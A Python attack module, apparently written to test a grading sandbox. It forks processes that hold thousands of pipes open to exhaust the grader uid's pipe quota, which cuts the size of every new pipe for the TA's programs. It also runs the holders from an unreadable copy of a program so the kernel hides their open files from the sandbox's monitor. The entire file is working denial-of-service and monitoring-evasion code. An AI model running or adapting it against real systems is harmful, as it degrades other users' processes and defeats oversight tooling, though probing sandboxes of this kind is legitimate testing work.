import fcntl
import os
import resource
import sys
import time

F_GETPIPE_SZ = 1032
DEFAULT_PIPE = 64 << 10  # a new pipe's size while its user is under fs.pipe-user-pages-soft (16 pages)
HOLDERS = 6  # programs, each holding a read end of as many pipes as its open-file limit allows
SPARE_FILES = 8  # descriptors each holder leaves free (its standard streams, the program's own)
HOLD_S = 1.0  # two looks of the zygote's watch of open files (every 0.5 s) before the call looks
PROGRAM = "/bin/sleep"  # any program: the copy's mode, not its code, is what matters
_held = []  # (holder pids, pipes made, what happened), once per process
_said = []


def copy_unreadable(name):
    """A copy of PROGRAM that its owner may run but not read: made with mode 0o100 at creation (the filter
    answers chmod as done and changes nothing, but leaves the mode open() creates a file with alone; the
    creating descriptor may write it whatever its mode). A process that runs a file its uid cannot read is
    made not dumpable by the kernel (would_dump in execve), so its /proc/PID/fd is closed to every process
    of the same uid without CAP_SYS_PTRACE, the zygote's watch among them."""
    with open(PROGRAM, "rb") as handle:
        body = handle.read()
    fd = os.open(name, os.O_CREAT | os.O_EXCL | os.O_WRONLY | os.O_CLOEXEC, 0o100)
    try:
        os.write(fd, body)
    finally:
        os.close(fd)
    return name


def holder(program, count):
    """In a forked child: `count` pipes, each kept by its read end alone (a pipe's pages are charged to its
    user, fs.pipe-user-pages-soft, for as long as either end is open), then the unreadable program run with
    every read end inherited. Never returns."""
    try:
        for _ in range(count):
            reader, writer = os.pipe()
            os.close(writer)
            os.set_inheritable(reader, True)
        os.execv(program, [program, "100000"])
    finally:
        os._exit(127)


def new_pipe_size():
    """The size the kernel gives a new pipe of this uid now (64 KiB under the soft limit, 8 KiB past it)."""
    reader, writer = os.pipe()
    try:
        return fcntl.fcntl(reader, F_GETPIPE_SZ)
    finally:
        os.close(reader)
        os.close(writer)


def hold_pipes():
    """HOLDERS programs that hold pipes; (holder pids, pipes made, what happened)."""
    before = new_pipe_size()
    program = copy_unreadable(os.path.abspath(f"holder-{os.getpid()}"))
    per = max(resource.getrlimit(resource.RLIMIT_NOFILE)[0] - SPARE_FILES, 1)
    pids = []
    for _ in range(HOLDERS):
        pid = os.fork()
        if pid == 0:
            holder(program, per)
        pids.append(pid)
    time.sleep(0.5)
    os.unlink(program)
    closed = "open"
    try:
        os.listdir(f"/proc/{pids[0]}/fd")
    except OSError as error:
        closed = f"closed ({error.strerror})"
    return pids, HOLDERS * per, f"a new pipe {before // 1024} KiB before; the holders' /proc/PID/fd {closed}"


def alive(pids):
    """How many of this process's children `pids` still run."""
    running = 0
    for pid in pids:
        try:
            running += os.waitpid(pid, os.WNOHANG) == (0, 0)
        except ChildProcessError:
            pass
    return running


def runs_as_the_grader():
    """Whether this worker runs as the grader's own uid (an ordinary user's grade): its code folder, where
    this file lies, is then its own uid's (as root each grade's code folder is root's, and the worker has a
    uid of its own)."""
    folder = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules[__name__].__file__)))
    return os.stat(folder).st_uid == os.getuid()


def attack(args):
    """Once per process, start the holders. Every call answers honestly only if they still run and every new
    pipe of this uid is now cut to the soft limit's size, while the worker runs as the grader's uid (the
    TA's every program then gets small pipes and may not grow one, for as long as the holders live): full
    marks on Problem 1 is the attack getting through. Else it fails, saying what stopped it."""
    if not _held:
        _held.append(hold_pipes())
        time.sleep(HOLD_S)
    pids, made, what = _held[0]
    size, running = new_pipe_size(), alive(pids)
    if size >= DEFAULT_PIPE or running < len(pids):
        raise OSError(f"{running} of {len(pids)} holders run with {made:,} pipes, and a new pipe is still "
                      f"{size // 1024} KiB ({what})")
    if not runs_as_the_grader():
        raise OSError(f"{made:,} pipes held cut new pipes to {size // 1024} KiB ({what}), but the worker runs as a "
                      f"uid of its own: the count it used up is no one else's")
    if not _said:
        _said.append(True)
        print(f"{running} unreadable programs hold {made:,} pipes: every new pipe of the grader's uid is "
              f"{size // 1024} KiB ({what})", flush=True)
    return None  # the function's own body runs on
